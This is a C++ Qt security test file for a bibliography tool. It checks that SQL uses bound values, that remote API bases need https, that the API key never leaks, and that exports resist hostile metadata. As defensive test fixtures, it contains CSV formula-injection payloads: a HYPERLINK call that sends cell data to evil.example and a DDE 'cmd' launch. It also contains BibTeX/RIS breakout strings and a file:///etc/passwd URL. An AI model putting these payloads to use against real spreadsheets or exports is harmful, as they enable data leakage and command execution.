// Security properties: SQL only with bound values, https for remote API
// bases, the API key never leaking, atomic export files, and exports of
// hostile metadata that cannot inject formulas or break out of a field.

#include "export/bibtexexporter.h"
#include "export/csvexporter.h"
#include "export/publicationexporter.h"
#include "export/risexporter.h"
#include "fakeopenalexserver.h"
#include "openalex/openalexclient.h"
#include "testsupport.h"

#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QFileInfo>
#include <QRegularExpression>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>

#include <sys/stat.h>

#include <algorithm>

using namespace peerscope;

namespace {

// ------------------------------------------------------------ SQL scanner ---

// Blanks comments and the contents of string literals (keeping the quotes),
// so operators are only found in code. Offsets stay the same.
QString codeOnly(const QString &src)
{
    QString out = src;
    enum { Code, Line, Block, Str, Chr } state = Code;
    for (qsizetype i = 0; i < src.size(); ++i) {
        const QChar c = src.at(i);
        const QChar n = i + 1 < src.size() ? src.at(i + 1) : QChar();
        switch (state) {
        case Code:
            if (c == u'/' && n == u'/') { state = Line; out[i] = u' '; }
            else if (c == u'/' && n == u'*') { state = Block; out[i] = u' '; }
            else if (c == u'"') state = Str;
            else if (c == u'\'') state = Chr;
            break;
        case Line:
            if (c == u'\n') state = Code; else out[i] = u' ';
            break;
        case Block:
            if (c == u'*' && n == u'/') { out[i] = u' '; out[i + 1] = u' '; ++i; state = Code; }
            else if (c != u'\n') out[i] = u' ';
            break;
        case Str:
        case Chr:
            if (c == u'\\') { out[i] = u' '; if (i + 1 < src.size()) out[i + 1] = u' '; ++i; }
            else if ((state == Str && c == u'"') || (state == Chr && c == u'\'')) state = Code;
            else out[i] = u'x';
            break;
        }
    }
    return out;
}

// The text between the '(' at open and its matching ')'.
QString argumentsAt(const QString &code, qsizetype open, qsizetype *end = nullptr)
{
    int depth = 0;
    for (qsizetype i = open; i < code.size(); ++i) {
        if (code.at(i) == u'(' || code.at(i) == u'{' || code.at(i) == u'[') ++depth;
        else if (code.at(i) == u')' || code.at(i) == u'}' || code.at(i) == u']') {
            if (--depth == 0) {
                if (end) *end = i;
                return code.mid(open + 1, i - open - 1);
            }
        }
    }
    return {};
}

QStringList splitTopLevel(const QString &args)
{
    QStringList parts;
    int depth = 0;
    qsizetype start = 0;
    for (qsizetype i = 0; i < args.size(); ++i) {
        const QChar c = args.at(i);
        if (c == u'(' || c == u'{' || c == u'[' || c == u'<') ++depth;
        else if (c == u')' || c == u'}' || c == u']' || c == u'>') --depth;
        else if (c == u',' && depth == 0) { parts << args.mid(start, i - start); start = i + 1; }
    }
    parts << args.mid(start);
    return parts;
}

// What makes SQL text "built" rather than one literal.
QString buildingOperator(const QString &expr)
{
    static const QRegularExpression ops(QStringLiteral(
        R"((\.arg\s*\()|(QString::number)|(asprintf)|(\.append\s*\()|(\.prepend\s*\()|(\.replace\s*\()|(\.join\s*\()|(\+)|(%))"));
    const QRegularExpressionMatch m = ops.match(expr);
    return m.hasMatch() ? m.captured(0) : QString();
}

struct Finding {
    QString file;
    int line = 0;
    QString what;
};

// Explicit exceptions: identifiers SQLite cannot bind. Each names the file,
// a unique piece of the call's code, and why it is safe.
struct Allowed {
    const char *file;
    const char *snippet;
    const char *reason;
};
const Allowed kAllowList[] = {
    {"models/cache/cache.cpp", "SELECT COUNT(*) FROM \\\"%1\\\"",
     "a table name read from sqlite_master, quoted as an identifier (rowCounts, for diagnostics and tests)"},
};

bool allowed(const QString &file, const QString &rawCall)
{
    for (const Allowed &a : kAllowList)
        if (file.endsWith(QLatin1String(a.file)) && rawCall.contains(QLatin1String(a.snippet)))
            return true;
    return false;
}

int lineOf(const QString &text, qsizetype offset)
{
    return int(QStringView(text).left(offset).count(u'\n')) + 1;
}

// Scans one source file. Sinks are exec/prepare on QSqlQuery or
// QSqlDatabase variables declared in the file (or members in its header),
// and functions of the file that pass a QString parameter on to a sink.
QList<Finding> scanSql(const QString &file, const QString &source, const QString &header = {})
{
    QList<Finding> findings;
    const QString code = codeOnly(source);
    const QString declCode = code + u'\n' + codeOnly(header);

    QStringList receivers;
    static const QRegularExpression decl(QStringLiteral(R"(\bQSql(?:Query|Database)\s*[&*]?\s*(\w+)\s*[;({=,)])"));
    for (auto it = decl.globalMatch(declCode); it.hasNext();)
        receivers << it.next().captured(1);
    receivers.removeDuplicates();

    // Function definitions: name and parameter list, by position.
    struct Function { qsizetype start; QString name; QStringList params; };
    QList<Function> functions;
    static const QRegularExpression def(QStringLiteral(R"((\w+)\s*\(([^()]*)\)\s*(?:const\s*)?(?:override\s*)?(?::[^;{]*)?\{)"));
    for (auto it = def.globalMatch(code); it.hasNext();) {
        const auto m = it.next();
        static const QSet<QString> keywords{QStringLiteral("if"), QStringLiteral("for"), QStringLiteral("while"),
                                            QStringLiteral("switch"), QStringLiteral("catch")};
        if (keywords.contains(m.captured(1)))
            continue;
        QStringList params;
        for (const QString &p : splitTopLevel(m.captured(2))) {
            static const QRegularExpression last(QStringLiteral(R"((\w+)\s*(?:=.*)?$)"));
            params << last.match(p.trimmed()).captured(1);
        }
        functions.append({m.capturedStart(), m.captured(1), params});
    }
    auto enclosing = [&](qsizetype pos) -> const Function * {
        const Function *f = nullptr;
        for (const Function &candidate : functions)
            if (candidate.start < pos)
                f = &candidate;
        return f;
    };

    // A bare identifier's definitions in the file: every '=', '+=', '(' or
    // range-for ':' that introduces or changes it must be unbuilt too.
    auto identifierBuilt = [&](const QString &name) -> QString {
        const QRegularExpression intro(QStringLiteral(R"(\b%1\s*(\+=|=(?!=)|:(?!:)|\{))").arg(QRegularExpression::escape(name)));
        for (auto it = intro.globalMatch(code); it.hasNext();) {
            const auto m = it.next();
            qsizetype endPos = code.indexOf(m.captured(1) == u":" ? u')' : u';', m.capturedEnd());
            if (m.captured(1) == u":") {
                qsizetype close = 0;
                argumentsAt(code, code.lastIndexOf(u'(', m.capturedStart()), &close);
                endPos = close;
            }
            const QString rhs = code.mid(m.capturedEnd(), endPos - m.capturedEnd());
            if (m.captured(1) == u"+=")
                return QStringLiteral("+=");
            if (const QString op = buildingOperator(rhs); !op.isEmpty())
                return op;
        }
        return {};
    };

    struct Sink { QString name; int param; bool member; };
    QList<Sink> sinks;
    for (const QString &r : std::as_const(receivers)) {
        sinks.append({r + QStringLiteral(".exec"), 0, true});
        sinks.append({r + QStringLiteral(".prepare"), 0, true});
        sinks.append({r + QStringLiteral("->exec"), 0, true});
        sinks.append({r + QStringLiteral("->prepare"), 0, true});
    }
    QSet<QString> seenWrappers;
    for (qsizetype s = 0; s < sinks.size(); ++s) {
        const Sink sink = sinks.at(s);
        const QRegularExpression call(sink.member ? QStringLiteral(R"(\b%1\s*\()").arg(QRegularExpression::escape(sink.name))
                                                  : QStringLiteral(R"((?<![\w.>:])%1\s*\()").arg(sink.name));
        for (auto it = call.globalMatch(code); it.hasNext();) {
            const auto m = it.next();
            const qsizetype open = m.capturedEnd() - 1;
            qsizetype close = 0;
            const QString args = argumentsAt(code, open, &close);
            const QStringList parts = splitTopLevel(args);
            if (args.trimmed().isEmpty() || sink.param >= parts.size())
                continue;
            const Function *f = enclosing(m.capturedStart());
            // A definition of the wrapper itself is not a call.
            if (!sink.member && f && f->start == m.capturedStart() - (m.capturedStart() - f->start) && f->name == sink.name
                && code.indexOf(u'{', close) == close + 1 + (code.mid(close + 1).size() - code.mid(close + 1).trimmed().size()))
                continue;
            const QString arg = parts.at(sink.param).trimmed();
            const QString raw = source.mid(m.capturedStart(), close - m.capturedStart() + 1);
            QString problem;
            if (const QString op = buildingOperator(arg); !op.isEmpty()) {
                problem = QStringLiteral("SQL built with '%1'").arg(op);
            } else {
                static const QRegularExpression ident(QStringLiteral(R"(^(\w+)(?:\.(?:first|second))?$)"));
                const auto id = ident.match(arg);
                if (id.hasMatch()) {
                    const QString name = id.captured(1);
                    const int paramIndex = f ? int(f->params.indexOf(name)) : -1;
                    if (paramIndex >= 0) {
                        // The SQL comes from the caller: check every call of
                        // this function in the file instead.
                        if (!seenWrappers.contains(f->name)) {
                            seenWrappers.insert(f->name);
                            sinks.append({f->name, paramIndex, false});
                        }
                    } else if (const QString op = identifierBuilt(name); !op.isEmpty()) {
                        problem = QStringLiteral("SQL in '%1' built with '%2'").arg(name, op);
                    }
                }
            }
            if (!problem.isEmpty() && !allowed(file, raw))
                findings.append({file, lineOf(source, m.capturedStart()), problem + QStringLiteral(": ") + raw.simplified().left(160)});
        }
    }
    return findings;
}

// ------------------------------------------------------- storage boundary ---

// Every string literal of src (adjacent pieces separate), with its offset.
QList<QPair<qsizetype, QString>> stringLiterals(const QString &src)
{
    QList<QPair<qsizetype, QString>> out;
    enum { Code, Line, Block, Str, Chr } state = Code;
    qsizetype start = 0;
    for (qsizetype i = 0; i < src.size(); ++i) {
        const QChar c = src.at(i);
        const QChar n = i + 1 < src.size() ? src.at(i + 1) : QChar();
        switch (state) {
        case Code:
            if (c == u'/' && n == u'/') state = Line;
            else if (c == u'/' && n == u'*') state = Block;
            else if (c == u'"') { state = Str; start = i + 1; }
            else if (c == u'\'' && !(i > 0 && src.at(i - 1).isLetterOrNumber())) state = Chr; // not a digit separator
            break;
        case Line: if (c == u'\n') state = Code; break;
        case Block: if (c == u'*' && n == u'/') { ++i; state = Code; } break;
        case Str:
            if (c == u'\\') ++i;
            else if (c == u'"') { out.append({start, src.mid(start, i - start)}); state = Code; }
            break;
        case Chr:
            if (c == u'\\') ++i;
            else if (c == u'\'') state = Code;
            break;
        }
    }
    return out;
}

// The storage boundary (issue 16): SQL lives in models/cache/ alone. Outside
// it no QSqlQuery or QSqlDatabase, no Cache::database() call, no include of
// the cache's SQL helpers, and no SQL text: a literal that starts a
// statement, or names a table after an SQL keyword ("... FROM works w").
QList<Finding> scanStorageBoundary(const QString &file, const QString &source)
{
    QList<Finding> findings;
    const QString code = codeOnly(source);
    static const QRegularExpression qtSql(QStringLiteral(R"(\bQSql(?:Query|Database)\b)"));
    static const QRegularExpression databaseCall(QStringLiteral(R"(\bdatabase\s*\(\s*\))"));
    static const QRegularExpression sqlInclude(QStringLiteral(R"(#\s*include\s*["<]cache/(?:sql|personworks)\.h[">])"));
    auto add = [&](qsizetype at, const QString &what) {
        findings.append({file, lineOf(source, at), what});
    };
    for (auto it = qtSql.globalMatch(code); it.hasNext();) {
        const auto m = it.next();
        add(m.capturedStart(), m.captured(0) + QStringLiteral(" outside models/cache/"));
    }
    for (auto it = databaseCall.globalMatch(code); it.hasNext();)
        add(it.next().capturedStart(), QStringLiteral("database() outside models/cache/"));
    for (auto it = sqlInclude.globalMatch(source); it.hasNext();)
        add(it.next().capturedStart(), QStringLiteral("the cache's SQL helpers included outside models/cache/"));
    static const QRegularExpression statement(QStringLiteral(
        R"(^\s*(?:SELECT|INSERT|UPDATE|DELETE|REPLACE|CREATE|DROP|ALTER|PRAGMA|WITH|BEGIN|COMMIT|ROLLBACK|VACUUM|ANALYZE|ATTACH)\b)"));
    static const QRegularExpression clause(QStringLiteral(
        R"(\b(?:FROM|JOIN|INTO|UPDATE|TABLE)\s+[a-z_][a-z0-9_]*\b|\bWHERE\s+[a-z_.]+\s*(?:=|<>|IN\b|IS\b|LIKE\b|MATCH\b))"));
    for (const auto &[offset, text] : stringLiterals(source)) {
        if (statement.match(text).hasMatch() || clause.match(text).hasMatch())
            add(offset, QStringLiteral("SQL text outside models/cache/: \"%1\"").arg(text.simplified().left(80)));
    }
    return findings;
}


QString readText(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? QString::fromUtf8(f.readAll()) : QString();
}

// ------------------------------------------------------------ hostile data ---

Work hostileWork()
{
    Work w;
    w.id = QStringLiteral("W1");
    w.type = QStringLiteral("article");
    w.title = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")}, author = {Mallory}, note = {x\r\n@misc{evil,\n\"quoted\", \"more\"");
    w.sourceName = QStringLiteral("+cmd|' /C calc'!A0");
    w.publisher = QStringLiteral("-2+3");
    w.volume = QStringLiteral("@SUM(1+1)");
    w.issue = QStringLiteral("\t=1+1");
    w.language = QStringLiteral("\r=1+1");
    w.publicationYear = 2020;
    w.abstract = QStringLiteral("Line one\nER  - \r\nTY  - JOUR\r\nTI  - injected\\} \\{ %comment");
    w.keywords = {QStringLiteral("=cmd"), QStringLiteral("}{")};
    Authorship a;
    a.authorId = QStringLiteral("A1");
    a.authorName = QStringLiteral("@Evil }{ \"Name\"");
    w.authorships << a;
    return w;
}

// RFC 4180 records: fields quoted or not, CRLF or LF between records.
QList<QStringList> parseCsv(const QString &text, bool *ok)
{
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    bool quoted = false, inQuotes = false;
    *ok = true;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (inQuotes) {
            if (c == u'"') {
                if (i + 1 < text.size() && text.at(i + 1) == u'"') { cell += u'"'; ++i; }
                else inQuotes = false;
            } else {
                cell += c;
            }
        } else if (c == u'"') {
            if (!cell.isEmpty()) *ok = false;
            inQuotes = quoted = true;
        } else if (c == u',') {
            row << cell; cell.clear(); quoted = false;
        } else if (c == u'\r' || c == u'\n') {
            if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') ++i;
            row << cell; cell.clear(); quoted = false;
            rows << row; row.clear();
        } else {
            if (quoted) *ok = false; // text after a closing quote
            cell += c;
        }
    }
    if (inQuotes) *ok = false;
    if (!cell.isEmpty() || !row.isEmpty()) { row << cell; rows << row; }
    return rows;
}

// Field names of every BibTeX entry, parsed the way BibTeX does: values in
// braces (nested) or quotes, or bare words.
QList<QStringList> bibFieldNames(const QString &text, bool *ok)
{
    QList<QStringList> entries;
    *ok = true;
    qsizetype i = 0;
    auto skipSpace = [&] { while (i < text.size() && text.at(i).isSpace()) ++i; };
    while ((i = text.indexOf(u'@', i)) >= 0) {
        const qsizetype open = text.indexOf(u'{', i);
        if (open < 0) { *ok = false; break; }
        i = text.indexOf(u',', open);
        if (i < 0) { *ok = false; break; }
        ++i;
        QStringList names;
        for (;;) {
            skipSpace();
            if (i >= text.size()) { *ok = false; return entries; }
            if (text.at(i) == u'}') { ++i; break; }
            const qsizetype eq = text.indexOf(u'=', i);
            if (eq < 0) { *ok = false; return entries; }
            names << text.mid(i, eq - i).trimmed();
            i = eq + 1;
            skipSpace();
            if (i < text.size() && text.at(i) == u'{') {
                int depth = 0;
                for (; i < text.size(); ++i) {
                    if (text.at(i) == u'{') ++depth;
                    else if (text.at(i) == u'}' && --depth == 0) { ++i; break; }
                }
                if (depth != 0) { *ok = false; return entries; }
            } else {
                while (i < text.size() && text.at(i) != u',' && text.at(i) != u'}' && !text.at(i).isSpace()) ++i;
            }
            skipSpace();
            if (i < text.size() && text.at(i) == u',') ++i;
        }
        entries << names;
    }
    return entries;
}

} // namespace

class tst_Security : public QObject
{
    Q_OBJECT

private slots:
    void sqlScanner_flagsStringBuiltSql()
    {
        // The scanner itself: each of these must be found, or the real scan
        // below proves nothing.
        const QString bad = QStringLiteral(
            "void f(QSqlDatabase db, const QString &table, int n) {\n"
            "    QSqlQuery q(db);\n"
            "    q.exec(QStringLiteral(\"SELECT * FROM %1\").arg(table));\n"
            "    q.prepare(QStringLiteral(\"SELECT \") + table);\n"
            "    q.exec(QLatin1String(\"SELECT \") % table);\n"
            "    q.exec(\"DELETE FROM t WHERE n = \" + QString::number(n));\n"
            "    const QString sql = QStringLiteral(\"DROP TABLE \") + table;\n"
            "    q.exec(sql);\n"
            "    db.exec(QStringLiteral(\"SELECT %1\").arg(n));\n"
            "}\n"
            "bool run(const QString &sql) { QSqlQuery q; return q.exec(sql); }\n"
            "void g(const QString &x) { run(QStringLiteral(\"SELECT \") + x); }\n");
        const QList<Finding> findings = scanSql(QStringLiteral("example.cpp"), bad);
        QList<int> lines;
        for (const Finding &f : findings)
            lines << f.line;
        std::sort(lines.begin(), lines.end());
        QCOMPARE(lines, (QList<int>{3, 4, 5, 6, 8, 9, 12}));

        const QString good = QStringLiteral(
            "void f(QSqlDatabase db, bool b) {\n"
            "    QSqlQuery q(db);\n"
            "    q.exec(QStringLiteral(\"SELECT a + b, 5 % 2 FROM t\"));\n"
            "    q.prepare(b ? QStringLiteral(\"SELECT 1\") : QStringLiteral(\"SELECT 2\"));\n"
            "    for (const QString &s : {QStringLiteral(\"DELETE FROM a\"), QStringLiteral(\"DELETE FROM b\")})\n"
            "        q.exec(s);\n"
            "    // q.exec(QStringLiteral(\"x\").arg(1)) in a comment\n"
            "    q.exec();\n"
            "}\n");
        const QList<Finding> none = scanSql(QStringLiteral("example.cpp"), good);
        QVERIFY2(none.isEmpty(), qPrintable(none.isEmpty() ? QString() : none.first().what));
    }

    void sql_everyStatementIsALiteralWithBoundValues()
    {
        const QString root = QStringLiteral(PEERSCOPE_SOURCE_DIR);
        QStringList report;
        int files = 0;
        for (const QString &dir : {QStringLiteral("models"), QStringLiteral("ui"), QStringLiteral("app"), QStringLiteral("views")}) {
            QDirIterator it(root + u'/' + dir, {QStringLiteral("*.cpp")}, QDir::Files, QDirIterator::Subdirectories);
            while (it.hasNext()) {
                const QString path = it.next();
                const QString header = readText(path.left(path.size() - 3) + u'h');
                for (const Finding &f : scanSql(QDir(root).relativeFilePath(path), readText(path), header))
                    report << QStringLiteral("%1:%2: %3").arg(f.file).arg(f.line).arg(f.what);
                ++files;
            }
        }
        QVERIFY(files > 30);
        QVERIFY2(report.isEmpty(), qPrintable(QStringLiteral("\n") + report.join(u'\n')));
    }

    void storageBoundaryScanner_findsSqlOutsideTheCache()
    {
        // The scanner itself: each planted line must be found, or the real
        // scan below proves nothing.
        const QString bad = QStringLiteral(
            "#include <QSqlQuery>\n"                                            // 1
            "#include \"cache/sql.h\"\n"                                      // 2
            "void f(const Cache &cache) {\n"                                    // 3
            "    QSqlQuery q(cache.database());\n"                             // 4
            "    q.exec(QStringLiteral(\"SELECT id FROM works\"));\n"        // 5
            "    const QString s = QStringLiteral(\"works w \"\n"          // 6
            "        \"JOIN authorships a ON a.work_id = w.id\");\n"       // 7
            "    auto db = QSqlDatabase::database(QStringLiteral(\"x\"));\n" // 8
            "    run(\"  delete from follows\"); run(\"DELETE FROM follows\");\n" // 9
            "    Sql::each(cache, QStringLiteral(\"PRAGMA user_version\"), {}, f);\n" // 10
            "}\n");
        QList<int> lines;
        for (const Finding &f : scanStorageBoundary(QStringLiteral("example.cpp"), bad))
            lines << f.line;
        std::sort(lines.begin(), lines.end());
        lines.erase(std::unique(lines.begin(), lines.end()), lines.end());
        QCOMPARE(lines, (QList<int>{1, 2, 4, 5, 7, 8, 9, 10}));

        // Prose and the query classes' words are not SQL.
        const QString good = QStringLiteral(
            "#include \"cache/workqueries.h\"\n"
            "void g(const Cache &cache) {\n"
            "    const auto works = WorkQueries(cache).ofPerson(id);\n"
            "    label->setText(tr(\"Select a work from the list. Update the author where needed.\"));\n"
            "    qWarning() << \"reading the works failed:\" << works.error();\n"
            "    // QSqlQuery in a comment, SELECT x FROM y\n"
            "    const char sep = '\\'';\n"
            "}\n");
        const QList<Finding> none = scanStorageBoundary(QStringLiteral("example.cpp"), good);
        QVERIFY2(none.isEmpty(), qPrintable(none.isEmpty() ? QString() : none.first().what));
    }

    void storageBoundary_noSqlOutsideModelsCache()
    {
        const QString root = QStringLiteral(PEERSCOPE_SOURCE_DIR);
        QStringList report;
        int files = 0;
        for (const QString &dir : {QStringLiteral("models"), QStringLiteral("ui"), QStringLiteral("app"), QStringLiteral("views")}) {
            QDirIterator it(root + u'/' + dir, {QStringLiteral("*.cpp"), QStringLiteral("*.h")}, QDir::Files,
                            QDirIterator::Subdirectories);
            while (it.hasNext()) {
                const QString path = it.next();
                const QString relative = QDir(root).relativeFilePath(path);
                if (relative.startsWith(QLatin1String("models/cache/")))
                    continue;
                ++files;
                const QList<Finding> found = scanStorageBoundary(relative, readText(path));
                for (const Finding &f : found)
                    report << QStringLiteral("%1:%2: %3").arg(f.file).arg(f.line).arg(f.what);
            }
        }
        QVERIFY(files > 60);
        QVERIFY2(report.isEmpty(), qPrintable(QStringLiteral("\n") + report.join(u'\n')));
    }

    void apiBase_remoteNeedsHttps_loopbackMayUseHttp()
    {
        OpenAlexClient client;
        QString error;
        QVERIFY(!client.setBaseUrl(QUrl(QStringLiteral("http://api.openalex.org")), &error));
        QVERIFY(error.contains(QLatin1String("https")));
        for (const char *refused : {"http://example.org", "http://localhost.evil.example", "http://127.0.0.1.evil.example",
                                    "http://127.0.0.1@evil.example/", "ftp://127.0.0.1", "http://10.0.0.1",
                                    "http://[::ffff:8.8.8.8]", "file:///etc/passwd", "not a url"})
            QVERIFY2(!client.setBaseUrl(QUrl(QString::fromLatin1(refused))), refused);
        for (const char *accepted : {"https://api.openalex.org", "https://mirror.example/api", "http://127.0.0.1:8080",
                                     "http://localhost:1234", "http://[::1]:99", "HTTPS://API.OPENALEX.ORG"})
            QVERIFY2(client.setBaseUrl(QUrl(QString::fromLatin1(accepted))), accepted);
        QCOMPARE(OpenAlexClient::defaultBaseUrl().scheme(), QStringLiteral("https"));
    }

    void apiBase_plainHttpOnTheCommandLine_isRefused()
    {
        QTemporaryDir home;
        const auto r = test::runPeerscope({QStringLiteral("--db"), home.filePath(QStringLiteral("c.db")), QStringLiteral("--api-base"),
                                           QStringLiteral("http://api.openalex.org"), QStringLiteral("--api-key"),
                                           QStringLiteral("SECRETKEY4711"), QStringLiteral("sync"), QStringLiteral("A5017898742")},
                                          home.path());
        QVERIFY(r.exitCode != 0);
        QVERIFY(r.err.contains("https"));
        QVERIFY(!r.err.contains("SECRETKEY4711"));
    }

    void apiKey_neverPrinted_closedPortBadBaseOrRefusingServer()
    {
        const QByteArray secret = "SECRETKEY4711xyz";
        QTemporaryDir home;
        const QString db = home.filePath(QStringLiteral("c.db"));
        // A port nobody listens on: bind one, then close it.
        quint16 closedPort = 0;
        {
            QTcpServer s;
            QVERIFY(s.listen(QHostAddress::LocalHost));
            closedPort = s.serverPort();
        }
        test::FakeOpenAlexServer server;
        QVERIFY(server.start());
        server.loadFixtures();
        server.setRequiredApiKey(QStringLiteral("another-key"));

        const QString closed = QStringLiteral("http://127.0.0.1:%1").arg(closedPort);
        const QString refusing = server.baseUrl().toString();
        const QList<QStringList> runs{
            {QStringLiteral("--api-base"), closed, QStringLiteral("sync"), QStringLiteral("A5017898742")},
            {QStringLiteral("--api-base"), closed, QStringLiteral("search"), QStringLiteral("--remote"), QStringLiteral("mearman")},
            {QStringLiteral("--api-base"), refusing, QStringLiteral("sync"), QStringLiteral("A5017898742")},
            {QStringLiteral("--api-base"), refusing, QStringLiteral("search"), QStringLiteral("--remote"), QStringLiteral("mearman")},
            {QStringLiteral("--api-base"), QStringLiteral("http://bad host/%%"), QStringLiteral("sync"), QStringLiteral("A5017898742")},
            {QStringLiteral("--api-base"), QStringLiteral("https://"), QStringLiteral("sync"), QStringLiteral("A5017898742")},
        };
        for (const QStringList &run : runs) {
            QStringList args{QStringLiteral("--db"), db, QStringLiteral("--api-key"), QString::fromLatin1(secret)};
            args += run;
            // Every log category at debug level, so a logged URL would show.
            qputenv("QT_LOGGING_RULES", "*.debug=true");
            const auto r = test::runPeerscope(args, home.path(), 60000);
            qunsetenv("QT_LOGGING_RULES");
            QVERIFY2(!r.crashed, qPrintable(run.join(u' ')));
            QVERIFY2(r.exitCode != 0, qPrintable(run.join(u' ')));
            QVERIFY2(!r.err.isEmpty(), qPrintable(run.join(u' ')));
            QVERIFY2(!r.out.contains(secret) && !r.err.contains(secret),
                     qPrintable(run.join(u' ') + QStringLiteral("\n") + QString::fromUtf8(r.err)));
        }
        // Nothing the key touched on disk holds it either.
        QDirIterator it(home.path(), QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
        while (it.hasNext()) {
            QFile f(it.next());
            QVERIFY(f.open(QIODevice::ReadOnly));
            QVERIFY2(!f.readAll().contains(secret), qPrintable(f.fileName()));
        }
    }

    void apiKey_notInTheCacheOrAnyExport_afterARealSync()
    {
        const QByteArray secret = "SECRETKEY4711abc";
        test::FakeOpenAlexServer server;
        QVERIFY(server.start());
        server.loadFixtures();
        server.setRequiredApiKey(QString::fromLatin1(secret));
        QTemporaryDir home;
        const QString db = home.filePath(QStringLiteral("c.db"));
        auto run = [&](QStringList args) {
            args.prepend(QString::fromLatin1(secret));
            args.prepend(QStringLiteral("--api-key"));
            args.prepend(server.baseUrl().toString());
            args.prepend(QStringLiteral("--api-base"));
            args.prepend(db);
            args.prepend(QStringLiteral("--db"));
            qputenv("QT_LOGGING_RULES", "*.debug=true");
            const auto r = test::runPeerscope(args, home.path());
            qunsetenv("QT_LOGGING_RULES");
            return r;
        };
        const auto synced = run({QStringLiteral("sync"), QStringLiteral("A5017898742")});
        QCOMPARE(synced.exitCode, 0);
        QVERIFY(!synced.err.contains(secret) && !synced.out.contains(secret));
        for (const char *format : {"bibtex", "biblatex", "ris", "csljson", "csv", "jsonl", "markdown"}) {
            const QString file = home.filePath(QStringLiteral("out.") + QLatin1String(format));
            const auto r = run({QStringLiteral("export"), QStringLiteral("A5017898742"), QStringLiteral("--format"),
                                QLatin1String(format), QStringLiteral("-o"), file});
            QCOMPARE(r.exitCode, 0);
            QFile f(file);
            QVERIFY(f.open(QIODevice::ReadOnly));
            const QByteArray bytes = f.readAll();
            QVERIFY(bytes.size() > 100);
            QVERIFY2(!bytes.contains(secret), format);
        }
        const auto graph = run({QStringLiteral("graph"), QStringLiteral("A5017898742"), QStringLiteral("--format"), QStringLiteral("graphml")});
        QCOMPARE(graph.exitCode, 0);
        QVERIFY(!graph.out.contains(secret));
        QDirIterator it(home.path(), QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
        while (it.hasNext()) {
            QFile f(it.next());
            QVERIFY(f.open(QIODevice::ReadOnly));
            QVERIFY2(!f.readAll().contains(secret), qPrintable(f.fileName()));
        }
    }

    void exportToFile_replacesTheFileAtomically()
    {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("list.bib"));
        QFile old(path);
        QVERIFY(old.open(QIODevice::WriteOnly));
        old.write("previous contents\n");
        old.close();
        struct stat before {};
        QCOMPARE(::stat(QFile::encodeName(path).constData(), &before), 0);
        ExportOptions options;
        options.format = ExportFormat::BibTeX;
        const ExportResult r = exportWorksToFile({hostileWork()}, options, path);
        QVERIFY2(r.ok, qPrintable(r.error));
        struct stat after {};
        QCOMPARE(::stat(QFile::encodeName(path).constData(), &after), 0);
        // A new inode: the file was written beside and renamed over, so a
        // reader never sees half a file.
        QVERIFY(before.st_ino != after.st_ino);
        QFile now(path);
        QVERIFY(now.open(QIODevice::ReadOnly));
        QCOMPARE(now.readAll(), r.data);
        QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden).size(), 1); // no temporary left behind
    }

    void exportToFile_failure_leavesThePreviousFile()
    {
        QTemporaryDir dir;
        // The destination is a folder: the write must fail and leave it.
        const QString folder = dir.filePath(QStringLiteral("taken"));
        QVERIFY(QDir().mkpath(folder));
        ExportOptions options;
        options.format = ExportFormat::Csv;
        const ExportResult r = exportWorksToFile({hostileWork()}, options, folder);
        QVERIFY(!r.ok);
        QVERIFY(!r.error.isEmpty());
        QVERIFY(QFileInfo(folder).isDir());
        QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden), QStringList{QStringLiteral("taken")});
    }

    void csvExport_hostileMetadata_noFormulaNoBreakout()
    {
        ExportOptions options;
        options.format = ExportFormat::Csv;
        options.includeAbstract = true;
        const QList<ExportEntry> entries = PublicationExporter(options).prepare({hostileWork(), hostileWork()});
        const QString text = QString::fromUtf8(CsvExporter().write(entries, options));
        bool ok = false;
        const QList<QStringList> rows = parseCsv(text, &ok);
        QVERIFY(ok);
        QCOMPARE(rows.size(), 3); // header + two works, however hostile
        for (const QStringList &row : rows) {
            QCOMPARE(row.size(), rows.first().size());
            for (const QString &cell : row) {
                QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.at(0)), qPrintable(cell));
                QVERIFY2(!cell.contains(u'\n') && !cell.contains(u'\r'), qPrintable(cell));
            }
        }
        const int title = int(rows.first().indexOf(QStringLiteral("title")));
        QVERIFY(title >= 0);
        QVERIFY(rows.at(1).at(title).contains(QLatin1String("HYPERLINK")));
        QVERIFY(rows.at(1).at(title).startsWith(u'\''));
    }

    void bibtexExport_hostileMetadata_staysInsideItsFields()
    {
        Work benign = hostileWork();
        benign.title = QStringLiteral("Plain title");
        benign.abstract = QStringLiteral("Plain abstract");
        benign.keywords = {QStringLiteral("plain")};
        benign.authorships.first().authorName = QStringLiteral("Plain Name");
        for (const auto dialect : {BibTexExporter::Dialect::BibTeX, BibTexExporter::Dialect::BibLaTeX}) {
            for (const bool ascii : {false, true}) {
                ExportOptions options;
                options.format = dialect == BibTexExporter::Dialect::BibTeX ? ExportFormat::BibTeX : ExportFormat::BibLaTeX;
                options.includeAbstract = true;
                options.asciiOnly = ascii;
                auto fields = [&](const Work &w) {
                    const QString text = QString::fromUtf8(BibTexExporter(dialect).write(PublicationExporter(options).prepare({w}), options));
                    bool ok = false;
                    const QList<QStringList> parsed = bibFieldNames(text, &ok);
                    return std::make_pair(ok, parsed);
                };
                const auto hostile = fields(hostileWork());
                const auto plain = fields(benign);
                QVERIFY(hostile.first);
                QVERIFY(plain.first);
                // The same entries with the same fields: nothing injected.
                QCOMPARE(hostile.second, plain.second);
                QCOMPARE(hostile.second.size(), 1);
            }
        }
    }

    void risExport_hostileMetadata_staysOneRecord()
    {
        ExportOptions options;
        options.format = ExportFormat::Ris;
        options.includeAbstract = true;
        const QByteArray bytes = RisExporter().write(PublicationExporter(options).prepare({hostileWork()}), options);
        QCOMPARE(bytes.count("ER  - "), 1);
